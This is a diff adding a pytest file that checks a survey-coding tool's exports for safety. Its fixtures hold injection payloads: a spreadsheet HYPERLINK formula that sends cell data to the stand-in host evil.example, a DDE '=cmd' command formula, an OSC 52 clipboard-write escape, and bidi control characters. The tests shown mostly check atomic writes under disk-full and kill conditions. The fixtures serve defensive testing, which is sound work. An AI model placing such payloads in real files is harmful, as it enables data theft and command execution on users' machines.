@@ -1,0 +1,231 @@
+"""What the tool writes out is safe: no live formulas in CSV/XLSX, no control characters on the
+terminal, and no half-written export files.
+
+The project is hostile on purpose: code names, respondent attributes and answers start with
+`=`, `+`, `-`, `@`; answers and file names carry OSC 52 clipboard writes, BEL, C1 controls and
+bidi overrides. Every test uses real files and a real database (PostgreSQL too where the
+database matters).
+"""
+
+from __future__ import annotations
+
+import os
+import signal
+import subprocess
+import sys
+from pathlib import Path
+
+import pytest
+from sqlalchemy import select
+
+from lo_codebook.core.project import Project
+from lo_codebook.db.models import Code, Document, Suggestion
+
+from .conftest import REPO, run_cli
+
+# ----------------------------------------------------------------------------- the project
+
+FORMULA_CODE = '=HYPERLINK("evil.example?d="&A1,"klik")'
+CODEBOOK = (
+    "name,parent,description,keywords\n"
+    "Thema's,,Categorie,\n"
+    f'"{FORMULA_CODE.replace(chr(34), chr(34) * 2)}",Thema\'s,"=cmd|\' /C calc\'!A0",=1+1;werk\n'
+    "+31 bellen,Thema's,+ telefoon,\n"
+    "-Werkdruk,Thema's,- druk,@thuis;-min\n"
+    "@thuis,Thema's,@ home,\n"
+    "Leiderschap,Thema's,leiding,leiderschap\n"
+)
+OSC52 = "\x1b]52;c;ZXZpbA==\x07"  # "write 'evil' to the clipboard", ended by BEL
+SURVEY = (
+    "id,size,antwoord\n"
+    f'R1,"=2+5","=1+1 werkdruk {OSC52} en leiderschap"\n'
+    'R2,+fout,"- thuiswerken \u202eesrever\u202c werkt"\n'
+    'R3,@home,"@iedereen: +31 bellen \x9b31m rood"\n'
+    "R4,-7,Leiderschap is belangrijk\n"
+)
+CODINGS = (
+    "document,code\n"
+    f'R1,"{FORMULA_CODE.replace(chr(34), chr(34) * 2)}"\n'
+    "R1,Leiderschap\n"
+    "R2,-Werkdruk\n"
+    "R3,@thuis\n"
+    "R3,+31 bellen\n"
+    "R4,Leiderschap\n"
+)
+CONTROL = ("\x1b", "\x07", "\x9b", "\u202e", "\u202c")
+
+
+def _write(path: Path, text: str) -> Path:
+    path.write_text(text, encoding="utf-8")
+    return path
+
+
+def build(tmp_path: Path, db: str) -> dict[str, str]:
+    """The hostile project through the command line; returns the environment to use it."""
+    env = {"LO_CODEBOOK_DB": db, "LO_CODEBOOK_CODER": "anna"}
+    data = tmp_path / "data"
+    data.mkdir(exist_ok=True)
+    for args in (
+        ("codebook", "import", _write(data / "codebook.csv", CODEBOOK)),
+        ("import-survey", _write(data / "survey.csv", SURVEY), "--id-col", "id", "--text-col", "antwoord", "--attr-col", "size"),
+        ("import-codings", _write(data / "codings.csv", CODINGS), "--coder", "anna"),
+    ):
+        result = run_cli(*args, env=env)
+        assert result.code == 0, (args, result.err)
+    project = Project.open(db, "anna")
+    try:
+        with project.write("seed-suggestions", undoable=False) as unit:
+            docs = {d.name: d for d in unit.session.scalars(select(Document))}
+            codes = {c.name: c.id for c in unit.session.scalars(select(Code))}
+            for doc, code in (("R1", FORMULA_CODE), ("R2", "-Werkdruk"), ("R3", "@thuis")):
+                text = docs[doc].text
+                unit.session.add(
+                    Suggestion(
+                        document_id=docs[doc].id, code_id=codes[code], start=0, end=len(text),
+                        score=90.0, method="keyword", evidence="keyword", status="pending",
+                    )
+                )
+    finally:
+        project.close()
+    return env
+
+
+@pytest.fixture
+def hostile(tmp_path: Path) -> dict[str, str]:
+    return build(tmp_path, str(tmp_path / "studie.db"))
+
+
+@pytest.fixture
+def hostile_any_db(tmp_path: Path, db_url: str) -> dict[str, str]:
+    return build(tmp_path, db_url)
+
+
+def hidden_leftovers(folder: Path) -> list[str]:
+    return sorted(p.name for p in folder.iterdir() if p.name.startswith(".") and p.name.endswith((".tmp", ".partial")))
+
+
+# ----------------------------------------------------------------------------- 3. atomic exports
+
+# Each export: the command (OUT is the target) and the target's file name.
+EXPORTS = {
+    "codebook csv": (["codebook", "export", "OUT"], "codebook.csv"),
+    "codebook md": (["codebook", "export", "OUT"], "codebook.md"),
+    "codebook qdc": (["codebook", "export", "OUT"], "codebook.qdc"),
+    "themes csv": (["themes", "--format", "csv", "-o", "OUT"], "themes.csv"),
+    "themes xlsx": (["themes", "--by", "size", "--format", "xlsx", "-o", "OUT"], "themes.xlsx"),
+    "themes md": (["themes", "--format", "md", "-o", "OUT"], "themes.md"),
+    "themes json": (["themes", "--format", "json", "-o", "OUT"], "themes.json"),
+    "themes chart": (["themes", "--chart", "OUT"], "themes.png"),
+    "quotes csv": (["export-quotes", "OUT"], "quotes.csv"),
+    "quotes xlsx": (["export-quotes", "OUT"], "quotes.xlsx"),
+    "qdpx": (["export-qdpx", "OUT"], "project.qdpx"),
+}
+
+# Runs an export with a file size limit (RLIMIT_FSIZE) one byte short of the whole export: its
+# write stops there with EFBIG ("fail": a full disk), or the kernel kills the process with
+# SIGXFSZ ("kill": no cleanup code runs, exactly a crash or kill -9 mid-write). The export runs
+# once unlimited first, to a scratch folder: that measures the size, and puts every module,
+# font cache and the project's SQLite shared-memory file in place.
+LIMITED = r"""
+import os, resource, signal, sys
+sys.dont_write_bytecode = True
+db, scratch, target, mode, *args = sys.argv[1:]
+from lo_codebook.cli import main
+def run(out):
+    try:
+        main(["--db", db, *[out if a == "OUT" else a for a in args]])
+    except SystemExit as exc:
+        return exc.code
+from lo_codebook.core.project import Project
+project = Project.open(db, "anna", create=False)
+with project.read() as session:
+    session.connection()  # keep a connection (and SQLite's shared memory file) open
+assert run(scratch) == 0
+resource.setrlimit(resource.RLIMIT_CORE, (0, 0))
+# Python starts with SIGXFSZ ignored; its default action kills the process.
+signal.signal(signal.SIGXFSZ, signal.SIG_IGN if mode == "fail" else signal.SIG_DFL)
+limit = os.path.getsize(scratch) - 1
+resource.setrlimit(resource.RLIMIT_FSIZE, (limit, limit))
+sys.exit(run(target))
+"""
+def run_limited(env: dict[str, str], tmp_path: Path, export: str, mode: str) -> tuple[subprocess.CompletedProcess[str], Path]:
+    args, name = EXPORTS[export]
+    out = tmp_path / "out"
+    scratch = tmp_path / "scratch"
+    out.mkdir(exist_ok=True)
+    scratch.mkdir(exist_ok=True)
+    target = out / name
+    command = [sys.executable, "-c", LIMITED, env["LO_CODEBOOK_DB"], str(scratch / name), str(target), mode, *args]
+    child_env = {**os.environ, "PYTHONPATH": str(REPO), "LO_CODEBOOK_CODER": "anna"}
+    child_env.pop("LO_CODEBOOK_DB", None)
+    result = subprocess.run(command, capture_output=True, text=True, env=child_env, timeout=120, cwd=tmp_path)
+    return result, target
+
+
+def export_once(env: dict[str, str], export: str, target: Path) -> bytes:
+    args, _ = EXPORTS[export]
+    result = run_cli(*[str(target) if a == "OUT" else a for a in args], env=env)
+    assert result.code == 0, result.err
+    return target.read_bytes()
+
+
+@pytest.mark.skipif(not sys.platform.startswith("linux"), reason="RLIMIT_FSIZE semantics as on Linux")
+@pytest.mark.parametrize("export", list(EXPORTS))
+def test_a_failed_export_leaves_the_previous_file_whole(export: str, hostile: dict[str, str], tmp_path: Path) -> None:
+    """The disk fills up mid-write: exit 1 with one line, the old file exactly as it was."""
+    _, name = EXPORTS[export]
+    target = tmp_path / "out" / name
+    target.parent.mkdir()
+    before = export_once(hostile, export, target)
+    result, target = run_limited(hostile, tmp_path, export, "fail")
+    assert result.returncode == 1, (result.stdout, result.stderr)
+    assert "Traceback" not in result.stderr
+    assert result.stderr.strip().splitlines()[-1].startswith(f"lo-codebook: error: {target}"), result.stderr
+    assert target.read_bytes() == before
+    assert hidden_leftovers(target.parent) == []
+
+
+@pytest.mark.skipif(not sys.platform.startswith("linux"), reason="RLIMIT_FSIZE semantics as on Linux")
+@pytest.mark.parametrize("export", list(EXPORTS))
+def test_a_killed_export_never_leaves_a_truncated_file(export: str, hostile: dict[str, str], tmp_path: Path) -> None:
+    """Killed mid-write (no cleanup runs): no new file at all, or the old one untouched;
+    the temporary file it left is removed by the next run of that export."""
+    result, target = run_limited(hostile, tmp_path, export, "kill")
+    assert result.returncode == -signal.SIGXFSZ, (result.returncode, result.stderr)
+    assert not target.exists(), f"{target.name}: {target.stat().st_size} bytes after a kill"
+    assert len(hidden_leftovers(target.parent)) == 1  # the temporary file it was writing
+
+    before = export_once(hostile, export, target)  # the next run: whole, and cleans up
+    assert hidden_leftovers(target.parent) == []
+
+    result, _ = run_limited(hostile, tmp_path, export, "kill")
+    assert result.returncode == -signal.SIGXFSZ
+    assert target.read_bytes() == before
+    export_once(hostile, export, target)
+    assert hidden_leftovers(target.parent) == []
+
+
+def test_temporary_files_of_running_writers_are_left_alone(tmp_path: Path) -> None:
+    """Only leftovers of writers that are gone are removed: a concurrent export keeps its file."""
+    from lo_codebook.safe_output import atomic_path, remove_stale_temps
+
+    target = tmp_path / "themes.csv"
+    sleeper = subprocess.Popen([sys.executable, "-c", "import time; time.sleep(60)"])
+    try:
+        with atomic_path(target) as mine:
+            mine.write_text("half", encoding="utf-8")
+            live = tmp_path / mine.name.replace(f".{os.getpid()}-", f".{sleeper.pid}-")
+            live.write_text("another writer", encoding="utf-8")
+            other = tmp_path / ".other.csv.1-00000000.abcdefgh.partial"
+            other.write_text("another target", encoding="utf-8")
+            unrelated = tmp_path / ".themes.csv.swp"
+            unrelated.write_text("an editor's", encoding="utf-8")
+            assert remove_stale_temps(target) == []
+            assert mine.exists() and live.exists() and other.exists() and unrelated.exists()
+            mine.write_text("whole", encoding="utf-8")
+    finally:
+        sleeper.kill()
+        sleeper.wait()
+    assert target.read_text(encoding="utf-8") == "whole"
+    assert remove_stale_temps(target) == [live]
+    assert other.exists() and unrelated.exists()
